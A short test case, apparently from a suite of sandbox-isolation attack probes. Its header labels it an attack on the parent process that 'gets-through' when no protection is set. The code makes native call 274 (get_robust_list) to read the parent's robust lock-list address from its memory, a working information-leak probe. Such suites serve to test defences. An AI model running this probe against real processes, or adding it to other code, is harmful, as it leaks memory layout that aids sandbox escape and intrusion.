// attack: Asks for the parent's list of locks, an address in its memory.
// group: parent
// at none: gets-through
// uses: native
// needs: x64

var (head, size) = (Native.Zeros(8), Native.Zeros(8));
Native.Call(274, Stage.Parent, head, size) == 0 ? $"the parent's list is at {Native.Word(head):X}" : null
